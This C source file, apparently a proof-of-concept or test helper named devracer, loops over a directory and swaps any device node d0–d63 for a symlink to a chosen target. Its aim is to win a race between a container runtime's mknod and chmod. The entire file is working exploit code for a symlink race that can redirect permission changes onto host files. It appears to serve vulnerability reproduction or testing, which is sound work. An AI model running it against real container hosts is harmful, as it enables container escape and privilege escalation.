// devracer DIR TARGET: whenever DIR/dN (N < 64) is a device node, replace it
// with a symlink to TARGET, racing the runtime between its mknod and chmod
// (what a second container sharing the rootfs can do).
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    int dir = open(argv[1], O_PATH | O_DIRECTORY);
    if (dir < 0) return 1;
    char link[64], name[64];
    for (;;) {
        for (int i = 0; i < 64; i++) {
            struct stat st;
            snprintf(name, sizeof name, "d%d", i);
            if (fstatat(dir, name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISCHR(st.st_mode)) {
                snprintf(link, sizeof link, ".l%d", i);
                symlinkat(argv[2], dir, link);
                renameat(dir, link, dir, name);
            }
        }
    }
}
